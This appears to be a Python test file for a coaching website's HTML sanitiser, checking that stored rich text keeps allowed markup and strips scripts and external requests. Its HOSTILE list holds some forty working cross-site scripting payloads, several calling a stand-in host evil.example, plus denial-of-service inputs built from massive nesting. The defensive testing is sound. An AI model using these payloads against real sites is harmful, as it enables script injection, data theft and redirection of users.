"""What may stand in a text: nothing that runs, nothing that asks another site, every word."""

import re
from time import process_time

import pytest
from hypothesis import given
from hypothesis import settings as tries
from hypothesis import strategies as st
from lxml import html as lxml_html
from pytest_django import Settings

from coaching_site.rich_text.normalising import MAX_DEPTH
from coaching_site.rich_text.rendering.sanitising import sanitise_rendered
from coaching_site.rich_text.sanitising import ATTRIBUTES, TAGS, sanitise

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/media/images/a.webp' onload=alert(1) srcset='//evil.example/a 2x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import '//evil.example/x.css'; p{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))' onclick=alert(1)>a</p>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='java\nscript:alert(1)'>a</a>",
    "<a href='java&#10;script&colon;alert(1)'>a</a>",
    "<a href=' &#14; javascript:alert(1)'>a</a>",
    "<a href='&#106;avascript:alert(1)'>a</a>",
    "<a href='vbscript:x'>a</a><a href='data:text/html,<script>1</script>'>b</a>",
    "<a href='https://x.example' target=_blank ping='//evil.example'>a</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='//evil.example'><input autofocus onfocus=alert(1)><button>ok</button></form>",
    "<object data='javascript:alert(1)'></object><embed src='//evil.example'>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example'>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p id=location name=body class=x lang=en>a</p>",
    "<b><i/onclick=alert(1)>x",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<img src='/media/../admin/logout/'><img src='/media/a.svg?x=//evil.example'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src='blob:x'><img src='cid:1'>",
    "<table background='//evil.example'><tr><td colspan='9999' onclick=x>a</table>",
    "<ol start='1e9' type='javascript'><li value=3>a</ol>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<p><![if !vml]><img src=x onerror=alert(1)><![endif]>a</p>",
]
ATTRIBUTE = re.compile(r"\son\w+\s*=", re.IGNORECASE)

markup = st.lists(
    st.one_of(
        st.sampled_from(
            [f"<{tag}>" for tag in sorted(TAGS)]
            + [f"</{tag}>" for tag in sorted(TAGS)]
            + ["<div>", "</div>", "<b>", "</b>", "<i>", "</i>", "<h1>", "</h1>", "<font color=x>"]
            + ["<a href='https://x.example/?a=1&b=2'>", '<img data-image="7" alt="a > b">']
            + ['<aside data-block="3">', "<td>", "<caption>", "<li>", "</p>", "<img data-image=x>"]
            + ["&#1;", "&#0;", "&nbsp;", "&amp;lt;", "<!--", "-->", "\r\n", "\r", "<", "&", '"']
            + ["<svg>", "</svg>", "<math>", "<style>", "</style>", "<select>", "<template>"]
        ),
        st.text(max_size=8),
    ),
    max_size=25,
).map("".join)


def elements_of(html: str) -> list[lxml_html.HtmlElement]:
    root = lxml_html.fragment_fromstring(html, create_parent="div")
    return [element for element in root.iterdescendants() if isinstance(element.tag, str)]


@pytest.mark.parametrize("attack", HOSTILE)
def test_nothing_that_runs_or_asks_another_site_survives(attack: str) -> None:
    cleaned = sanitise(f"<p>voor</p>{attack}<p>na</p>")
    for element in elements_of(cleaned):
        assert element.tag in TAGS
        assert set(element.attrib) <= set(ATTRIBUTES[str(element.tag)])
        assert not (element.get("href") or "").lower().startswith(("java", "vb", "data"))
        assert element.get("src") is None
    assert "voor" in cleaned


@tries(deadline=None, max_examples=300)
@given(markup)
def test_sanitising_twice_changes_nothing(html: str) -> None:
    cleaned = sanitise(html)
    assert sanitise(cleaned) == cleaned


@tries(deadline=None, max_examples=200)
@given(markup)
def test_only_allowed_elements_and_attributes_remain(html: str) -> None:
    for element in elements_of(sanitise(html)):
        assert element.tag in TAGS
        assert set(element.attrib) <= set(ATTRIBUTES[str(element.tag)])


@tries(deadline=None, max_examples=100)
@given(st.text(max_size=200))
def test_no_character_that_nobody_sees_remains(text: str) -> None:
    assert re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ue000\ue001]", sanitise(text)) is None


def test_control_characters_written_as_entities_go_too() -> None:
    assert sanitise("<p>a&#1;b&#8;c</p>") == "<p>abc</p>"


def test_an_address_is_read_as_a_browser_reads_it() -> None:
    assert sanitise("<a href='https://voorbeeld.nl/a\n\tb'>a</a>") == (
        '<a href="https://voorbeeld.nl/ab">a</a>'
    )


def test_half_a_surrogate_pair_is_no_error() -> None:
    assert sanitise("<p>a\ud800b</p>") == "<p>ab</p>"


def test_what_an_author_writes_stays_as_it_is() -> None:
    text = (
        "<h2>Loslaten</h2><p>„Laag” en “hoog” en ‘enkel’ — met <strong>nadruk</strong>, "
        'H<sub>2</sub>O en een <a href="https://example.org/?a=1&amp;b=2">verwijzing</a>.</p>'
        '<ol start="3" type="a"><li>drie</li></ol>'
        "<table><caption>Rooster</caption><thead><tr>"
        '<th scope="col">Dag</th></tr></thead><tbody><tr><td colspan="2">maandag&nbsp;1</td></tr>'
        "</tbody></table><blockquote><p>Stil.</p></blockquote>"
        '<figure><img data-image="12" alt="Klas"><figcaption>In de klas</figcaption></figure>'
        '<aside data-block="3"></aside>'
        '<p>مرحبا 👩‍🏫 <a href="mailto:a@voorbeeld.nl">mail</a> <a href="/aanbod/">aanbod</a></p>'
    )
    assert sanitise(text) == text


def test_older_names_and_missing_levels_get_the_ones_that_exist() -> None:
    assert sanitise("<h1>a</h1><h5>b</h5><p><b>c</b><i>d</i></p>") == (
        "<h2>a</h2><h4>b</h4><p><strong>c</strong><em>d</em></p>"
    )


def test_an_image_without_its_number_disappears_and_its_neighbours_stay() -> None:
    assert sanitise('<p>a<img src="https://x.example/1.png" alt="b > c">d</p>') == "<p>ad</p>"


def test_of_an_image_only_its_number_and_its_words_are_stored() -> None:
    shown = '<img class="x" src="/media/a.webp" width="8" height="6" alt="Klas" data-image="12">'
    assert sanitise(f"<figure>{shown}</figure>") == (
        '<figure><img data-image="12" alt="Klas"></figure>'
    )


@pytest.mark.parametrize("number", ["0", "012", "-1", "1.5", "a", "9999999999", "1 onload=x", ""])
def test_what_is_no_number_names_no_image_and_no_block(number: str) -> None:
    html = f'<p>a</p><img data-image="{number}"><aside data-block="{number}">b</aside>'
    assert sanitise(html) == "<p>a</p>b"


def test_what_stands_in_a_block_is_not_stored_and_what_follows_it_is() -> None:
    shown = '<aside class="block" data-block="3"><h2>Bel</h2><p>ons</p></aside><p>Verder.</p>'
    assert sanitise(shown) == '<aside data-block="3"></aside><p>Verder.</p>'


@pytest.mark.parametrize(
    "html",
    [
        '<aside data-block="3"><p>Verder.</p>',
        '<aside data-block="3"/><p>Verder.</p>',
        '<p><aside data-block="3"><p>Verder.</p></p>',
    ],
)
def test_a_block_that_nobody_closed_swallows_no_words(html: str) -> None:
    assert '<aside data-block="3"></aside>' in sanitise(html)
    assert "<p>Verder.</p>" in sanitise(html)


@pytest.mark.parametrize(
    "element",
    ["<div>", "<blockquote>", "<ul><li>", "<b>", "<table><tr><td>", "<div></x>",
     "<div><!--</div>-->", "<div title='</div>'>", "<p><b>"],
)  # fmt: skip
def test_sixty_thousand_nested_elements_lose_their_structure_and_keep_their_words(
    element: str,
) -> None:
    attack = element * min(60_000, 299_000 // len(element)) + "woord"
    cleaned = sanitise(attack)
    assert "woord" in cleaned
    assert len(cleaned) < 1_000


def test_deep_but_possible_nesting_is_kept() -> None:
    depth = MAX_DEPTH // 2
    text = "<ul><li>" * (depth) + "diep" + "</li></ul>" * (depth)
    assert sanitise(text).count("<ul>") == depth


@pytest.mark.parametrize(
    "attack",
    [
        "<p " + " ".join(f"a{number:x}" for number in range(45_000)) + ">woord",
        "<table>" + "".join(f"<b class=a{n}>" for n in range(100)) + "<table>x" + "<tr>x" * 30_000,
        "<p>" + "".join(f"<b class=a{n}>" for n in range(140)) + "<p>woord" * 9_000,
        "<ul><dd>" * 37_000,
        "<b><div></b>" * 24_000,
        "&" * 299_990,
        "<!--" * 74_000,
    ],
    ids=["attributes", "tables", "emphasis", "lists", "ends", "entities", "comments"],
)
def test_a_text_made_to_take_minutes_is_sanitised_in_seconds(attack: str) -> None:
    started = process_time()
    cleaned = sanitise(attack)
    assert process_time() - started < 10
    assert len(cleaned) < 6 * len(attack)


def test_links_are_cleaned_in_whatever_is_stored_or_shown(settings: Settings) -> None:
    settings.SITE_URL = "https://praktijk.example"
    detour = (
        "https://eur03.safelinks.protection.outlook.com/?url=https%3A%2F%2Fvoorbeeld.nl%2F%3Ffbclid"
        "%3D1&amp;data=05%7Cmirthe%40praktijk.example"
    )
    stored = f'<p><a href="{detour}">lees</a> <a href="https://praktijk.example/over/">wij</a></p>'
    clean = '<p><a href="https://voorbeeld.nl/">lees</a> <a href="/over/">wij</a></p>'
    assert sanitise(stored) == clean
    assert sanitise_rendered(stored) == clean
